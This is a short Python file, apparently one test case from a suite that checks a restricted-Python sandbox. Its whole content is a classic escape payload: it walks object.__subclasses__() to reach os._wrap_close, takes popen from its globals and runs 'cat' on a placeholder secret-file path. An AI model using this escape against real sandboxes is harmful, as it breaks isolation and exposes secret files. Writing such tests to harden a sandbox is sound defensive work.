# category: builtins
# attack: os._wrap_close from object.__subclasses__(), then popen the secret
# profile: basic
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        print(c.__init__.__globals__["popen"]("cat @SECRET_FILE@").read())
